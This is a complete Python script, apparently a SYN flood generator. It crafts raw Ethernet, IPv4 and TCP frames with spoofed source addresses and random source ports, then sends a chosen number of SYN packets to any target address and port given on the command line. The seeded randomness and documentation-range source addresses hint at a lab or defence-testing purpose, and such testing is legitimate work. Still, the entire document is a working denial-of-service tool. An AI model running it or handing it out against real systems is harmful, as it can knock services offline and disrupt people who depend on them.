"""A flood of SYNs, each from another port or address: `python flood.py INTERFACE MAC ADDRESS PORT COUNT`
sends so many frames, and no more."""

from __future__ import annotations

import random
import socket
import struct
import sys
from ipaddress import IPv4Address

FIRST, HOSTS = int(IPv4Address("198.51.100.220")), 30  # addresses that nobody has


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def main() -> None:
    interface, mac, address, port, count = sys.argv[1:]
    out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    out.bind((interface, 0))
    ethernet = bytes.fromhex(mac.replace(":", "")) + out.getsockname()[4] + b"\x08\0"
    target = IPv4Address(address).packed
    rng = random.Random(1)
    for _ in range(int(count)):
        source = (FIRST + rng.randrange(HOSTS)).to_bytes(4)
        ip = struct.pack("!BBHHHBBH", 0x45, 0, 40, 0, 0x4000, 64, 6, 0) + source + target
        ip = ip[:10] + checksum(ip).to_bytes(2) + ip[12:]
        ports = struct.pack("!HH", rng.randrange(1024, 65536), int(port))
        tcp = ports + struct.pack("!IIBBHHH", rng.getrandbits(32), 0, 0x50, 2, 64240, 0, 0)
        check = checksum(source + target + b"\0\x06\0\x14" + tcp)
        out.send(ethernet + ip + tcp[:16] + check.to_bytes(2) + tcp[18:])


if __name__ == "__main__":
    main()
